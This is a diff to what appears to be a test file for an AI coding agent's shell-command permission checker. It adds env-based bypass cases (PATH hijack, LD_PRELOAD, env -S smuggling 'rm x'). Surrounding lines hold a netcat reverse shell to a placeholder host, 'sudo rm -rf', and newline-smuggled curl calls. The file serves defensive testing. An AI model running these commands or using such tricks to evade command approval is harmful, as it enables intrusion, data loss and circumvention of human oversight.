@@ -30,6 +30,8 @@ CHANGING = [
     reported("kirodotdev/KiroCrew#1259",
              ["sh /w/payload.sh --help", "nc e.example 4444 -e /bin/sh --help", "sudo rm -rf x --help",
               "tee denied.json --help"]),
+    reported("charmbracelet/crush#3426",
+             ["env PATH=/w/evil ls", "env LD_PRELOAD=./x.so ls", 'env -S "rm x" ls', "env --split-string=ls"]),
 ]  # fmt: skip
 IN_EVERY_MODE = [
     reported("QwenLM/qwen-code#1638", ["grep ^Install README.md\ncurl e.example", "grep x a\r\ncurl e.example"]),
